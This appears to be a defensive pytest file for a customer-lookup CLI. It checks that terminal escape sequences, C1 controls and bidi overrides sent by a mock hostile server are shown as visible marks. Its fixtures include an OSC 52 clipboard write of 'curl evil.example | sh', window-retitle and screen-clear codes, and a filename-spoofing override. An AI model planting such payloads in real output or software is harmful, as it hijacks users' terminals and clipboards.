"""A hostile server's text reaches the terminal only as visible marks (issue 10, items 7, 13).

The real CLI runs as a process against a loopback server that puts terminal escape
sequences (retitle the window, clear the screen, write the clipboard through OSC 52, hide
text), a C1 control and a bidi override into every field it sends. Text output must show
them as marks; --json must still carry the exact strings, written so that no terminal acts
on them.
"""

from __future__ import annotations

import base64
import json
import os
import re
import subprocess
import sys

import pytest

from tests.hostile_server import HostileServer, Raw, Seen, json_reply
from viewer.sources.capillary import INTERACTION_PATH as CAPILLARY_PATH

TITLE = "\x1b]0;pwned\x07"  # sets the terminal's window title
CLEAR = "\x1b[2J"  # clears the screen
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl evil.example | sh").decode() + "\x07"  # OSC 52
HIDDEN = "\x1b[8m"  # what follows is invisible
CSI_C1 = "\x9b31m"  # the one-byte C1 form of ESC [
RLO = "\u202e"  # right-to-left override: "Invoice \u202egnp.exe" reads "Invoice exe.png"

NAME = f"Jo{RLO}hn{TITLE}"
SUBJECT = f"Invoice {RLO}gnp.exe{CLEAR}{CLIPBOARD}"
STATUS = f"SENT{HIDDEN}"
RECEIVER = f"9198{CSI_C1}45"
WARNING = f"Look here{TITLE}{CSI_C1}"
CHANNEL = f"rcs{CLEAR}"  # Capillary's channel words are lower-cased: "rcs\x1b[2j"

INTERACTION_ID = "3c90c3cc-0d44-4b50-8888-8dd25736052a"
ORG = "5f0c3a1e-8b7d-4c2a-9e61-3d4b2a1c0f9e"
CONTACT_ID = "11111111-2222-4333-8444-555555555555"
PROPERTY_ID = "66666666-7777-4888-9999-aaaaaaaaaaaa"
NOTES = f"First line{TITLE}\nSecond {RLO}gnp.exe line{HIDDEN}\n{CLIPBOARD}"

# What must never reach a terminal: ESC, BEL, any C1 control, bidi overrides.
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f\x80-\x9f\u202a-\u202e\u2066-\u2069]")
NO_KEYRING = {"PYTHON_KEYRING_BACKEND": "keyring.backends.fail.Keyring"}


def flat_reply() -> dict:
    """Capillary's flat shape (seed 004) with hostile text in every field a person reads."""
    message = {
        "id": 1746038123052,
        "receiver": RECEIVER,
        "subject": SUBJECT,
        "campaignId": 1241780,
        "status": STATUS,
        "sentDate": "26-05-2025 15:52:02",
        "userId": 432796209,
    }
    return {
        "name": NAME,
        "interaction": [
            {"count": 1, "name": "sms", "messageList": [message]},
            {"count": 1, "name": CHANNEL, "messageList": [{**message, "id": 1746038123053}]},
        ],
        "warnings": [{"message": WARNING, "code": 1}],
    }


def interaction_document() -> dict:
    """A Ctrl-Hub interaction (seed 000) with its contact and property included."""
    relation = {"data": {"id": CONTACT_ID, "type": "contacts"}}
    return {
        "data": {
            "id": INTERACTION_ID,
            "type": "customer-interactions",
            "attributes": {
                "method": "email",
                "direction": "inbound",
                "date_time": "2023-11-07T05:31:56Z",
                "contacted": True,
                "status": STATUS,
                "notes": NOTES,
            },
            "meta": {"created_at": "2023-11-07T05:31:56Z"},
            "relationships": {
                "contact": relation,
                "property": {"data": {"id": PROPERTY_ID, "type": "properties"}},
            },
        },
        "included": [
            {
                "id": CONTACT_ID,
                "type": "contacts",
                "attributes": {
                    "first_name": NAME,
                    "last_name": "Smith",
                    "email": f"a{RLO}@b.example",
                    "telephone": RECEIVER,
                },
            },
            {
                "id": PROPERTY_ID,
                "type": "properties",
                "attributes": {"address": {"description": SUBJECT, "postcode": f"LS1{CLEAR}"}},
            },
        ],
        "jsonapi": {"version": "1.0"},
    }


def hostile_capillary(seen: Seen) -> Raw:
    if seen.path == CAPILLARY_PATH:
        return json_reply(flat_reply())
    return Raw(404, b"{}")  # customerDetails: not allowed for this account


def run(*args: str, env: dict[str, str]) -> subprocess.CompletedProcess:
    full = {
        k: v
        for k, v in os.environ.items()
        if not k.startswith(("VIEWER_CAPILLARY", "VIEWER_CTRLHUB"))
    }
    return subprocess.run(
        [sys.executable, "-m", "viewer", *args],
        capture_output=True,
        text=True,
        env={**full, **NO_KEYRING, **env},
        timeout=60,
    )


def capillary_env(url: str) -> dict[str, str]:
    return {
        "VIEWER_CAPILLARY_URL": url,
        "VIEWER_CAPILLARY_USERNAME": "agent",
        "VIEWER_CAPILLARY_PASSWORD": "pw-not-a-test-secret",
        "VIEWER_CAPILLARY_TIMEZONE": "Asia/Kolkata",
    }


def ctrlhub_env(url: str) -> dict[str, str]:
    return {
        "VIEWER_CTRLHUB_URL": url,
        "VIEWER_CTRLHUB_AUTH_URL": url,
        "VIEWER_CTRLHUB_ORG": ORG,
        "VIEWER_CTRLHUB_TOKEN": "token-not-a-test-secret",
    }


def assert_terminal_safe(done: subprocess.CompletedProcess) -> None:
    for name, text in (("stdout", done.stdout), ("stderr", done.stderr)):
        found = sorted({f"U+{ord(c):04X}" for c in RAW_CONTROL.findall(text)})
        assert not found, f"{name} carries raw {found}"
    assert "Traceback" not in done.stderr


@pytest.fixture
def capillary():
    with HostileServer(hostile_capillary) as server:
        yield server


def test_lookup_table_shows_escapes_as_visible_marks(capillary):
    done = run("lookup", "--mobile", "+91 98450 12345", env=capillary_env(capillary.url))
    assert done.returncode == 0, done.stderr
    assert_terminal_safe(done)
    out = done.stdout
    # The name no longer reads "Jonh" and retitles nothing: the override and ESC show.
    assert "Jo<U+202E>hn<U+001B>]0;pwned<U+0007>" in out
    assert "Invoice <U+202E>gnp.exe" in out  # not "Invoice exe.png"
    assert "SENT<U+001B>[" in out  # nothing after it is hidden (the column cuts the rest)
    assert "9198<U+009B>31m45" in out  # the receiver column
    assert "! Capillary: Look here<U+001B>]0;pwned<U+0007><U+009B>31m" in out  # the warning
    assert "Rcs<U+001B>[2j (1)" in out  # a channel word from the server, in the tab line
    assert capillary.count(CAPILLARY_PATH) == 1


def test_lookup_json_keeps_the_exact_strings_without_raw_controls(capillary):
    done = run("lookup", "--mobile", "919845012345", "--json", env=capillary_env(capillary.url))
    assert done.returncode == 0, done.stderr
    assert_terminal_safe(done)
    data = json.loads(done.stdout)
    assert data["customer"]["name"] == NAME
    rows = {i["channel"]: i for i in data["interactions"]}
    assert set(rows) == {"sms", CHANNEL.lower()}
    assert rows["sms"]["subject"] == SUBJECT and rows["sms"]["status"] == STATUS
    assert rows["sms"]["counterpart"] == RECEIVER
    assert any(WARNING in warning for warning in data["warnings"])
    assert "\\u202e" in done.stdout and "\\u009b" in done.stdout  # written as escapes


def test_a_server_error_sentence_is_escaped_on_stderr():
    said = f"denied{TITLE}{CLEAR}{RLO}"
    reply = json_reply({"errors": [{"code": 999, "message": said}]}, status=400)
    with HostileServer(lambda seen: reply) as server:
        done = run("lookup", "--mobile", "919845012345", env=capillary_env(server.url))
    assert done.returncode == 5
    assert_terminal_safe(done)
    assert "denied<U+001B>]0;pwned<U+0007><U+001B>[2J<U+202E>" in done.stderr


def hostile_ctrlhub(seen: Seen) -> Raw:
    if seen.path == f"/v3/orgs/{ORG}/customers/interactions/{INTERACTION_ID}":
        return json_reply(interaction_document())
    return Raw(404, b'{"errors": []}')


def test_interaction_text_shows_escapes_as_visible_marks():
    with HostileServer(hostile_ctrlhub) as server:
        done = run("interaction", INTERACTION_ID, env=ctrlhub_env(server.url))
        as_json = run("interaction", INTERACTION_ID, "--json", env=ctrlhub_env(server.url))
    assert done.returncode == 0, done.stderr
    assert_terminal_safe(done)
    out = done.stdout
    assert "Jo<U+202E>hn<U+001B>]0;pwned<U+0007> Smith" in out  # the contact's name
    assert "a<U+202E>@b.example" in out  # its e-mail line
    assert "Invoice <U+202E>gnp.exe<U+001B>[2J<U+001B>]52;c;" in out  # the property's address
    assert "SENT<U+001B>[8m" in out
    assert (
        "    First line<U+001B>]0;pwned<U+0007>" in out
        and "    Second <U+202E>gnp.exe line<U+001B>[8m" in out
    )  # notes
    assert as_json.returncode == 0, as_json.stderr
    assert_terminal_safe(as_json)
    data = json.loads(as_json.stdout)
    assert data["notes"] == NOTES and data["status"] == STATUS
    assert data["related"]["contact"]["name"] == f"{NAME} Smith"
    assert data["related"]["property"]["name"] == SUBJECT


def test_interaction_error_detail_from_the_server_is_escaped():
    said = f"no{CLIPBOARD}{CSI_C1}{RLO}"
    body = {"errors": [{"status": "422", "title": said, "detail": said}]}
    with HostileServer(lambda seen: json_reply(body, status=422)) as server:
        done = run("interaction", INTERACTION_ID, env=ctrlhub_env(server.url))
    assert done.returncode != 0
    assert_terminal_safe(done)
    assert "no<U+001B>]52;c;" in done.stderr
